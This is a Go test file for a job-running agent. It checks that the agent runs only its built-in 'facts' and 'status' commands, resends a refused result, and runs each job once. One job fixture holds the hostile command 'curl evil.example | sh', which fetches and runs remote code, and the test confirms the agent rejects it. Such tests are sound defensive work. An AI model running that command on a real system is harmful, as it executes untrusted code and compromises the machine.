package agent_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"sync/atomic"
	"testing"
)

// Jobs are fetched and their results reported; only built-in commands run, and a result the
// home did not take is sent again.
func TestJobsRunBuiltInsOnly(t *testing.T) {
	t.Parallel()
	d := newFakeDeployment(t, newRegistry(), testKey(""))
	d.jobs = []map[string]any{
		{"id": "job_facts", "command": "facts", "created_at": "2026-12-01T00:00:00Z"},
		{"id": "job_status", "command": "status", "created_at": "2026-12-01T00:00:00Z"},
		{"id": "job_shell", "command": "curl evil.example | sh", "created_at": "2026-12-01T00:00:00Z"},
	}
	var refused atomic.Int32
	d.answer("/api/v1/agent/jobs/job_status/result", func(w http.ResponseWriter) bool {
		if refused.Add(1) == 1 {
			problemJSON(w, 503, "unavailable")
			return true
		}
		return false
	})
	r := start(t, testConfig(t, d.URL, testKey("")), nil)
	eventually(t, "three results", func() bool {
		d.mu.Lock()
		defer d.mu.Unlock()
		return len(d.results) == 3
	})
	r.stop()
	d.mu.Lock()
	defer d.mu.Unlock()
	if d.results["job_facts"]["status"] != "succeeded" || !strings.Contains(fmt.Sprint(d.results["job_facts"]["output"]), "queued test.tick as observation") {
		t.Errorf("facts: %v", d.results["job_facts"])
	}
	var status map[string]any
	if d.results["job_status"]["status"] != "succeeded" || json.Unmarshal([]byte(fmt.Sprint(d.results["job_status"]["output"])), &status) != nil ||
		status["installation_id"] != r.InstallationID() || status["home"] != d.URL {
		t.Errorf("status: %v", d.results["job_status"])
	}
	if refused.Load() < 2 {
		t.Errorf("the refused result was not sent again")
	}
	shell := d.results["job_shell"]
	if shell["status"] != "failed" || shell["exit_code"] != float64(127) || !strings.Contains(fmt.Sprint(shell["output"]), "built-in jobs (facts, status)") {
		t.Errorf("shell command: %v", shell)
	}
	// Each job ran once: listing again returns nothing pending, and no job ran twice.
	if n := strings.Count(r.logs.String(), `"msg":"running a job"`); n != 3 {
		t.Errorf("%d job runs logged, want 3", n)
	}
}
